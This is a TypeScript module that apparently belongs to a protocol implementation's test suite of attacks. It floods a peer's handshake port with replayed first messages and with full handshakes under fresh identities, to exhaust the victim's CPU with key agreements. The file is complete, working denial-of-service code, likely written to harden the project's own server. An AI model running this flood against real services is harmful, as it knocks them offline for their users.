import type { Attack } from '../attack.ts';
import { createRawHandshake, framed, openRawPeer } from '../raw-peer.ts';
import { closed, openSocket, repeat } from '../raw-sockets.ts';

/** Makes the victim compute: first messages that cost the attacker nothing, and whole handshakes with ever new identities. */
export const attack: Attack = async ({ port, scale, signal }) => {
  const first = framed(createRawHandshake().start(Date.now()));
  let completed = 0;
  const handshakes = await repeat(Math.ceil(10_000 * scale), { lanes: 20, signal }, async (index) => {
    if (index % 4 > 0) {
      // The same recorded message again and again: valid, and answered with two key agreements.
      const socket = await openSocket(port);
      socket.write(first);
      socket.once('data', () => socket.destroy());
      await closed(socket);
      return;
    }
    const peer = await openRawPeer(port);
    if (peer === undefined) return;
    completed++;
    peer.socket.destroy();
  });
  return { done: { handshakes, completed } };
};
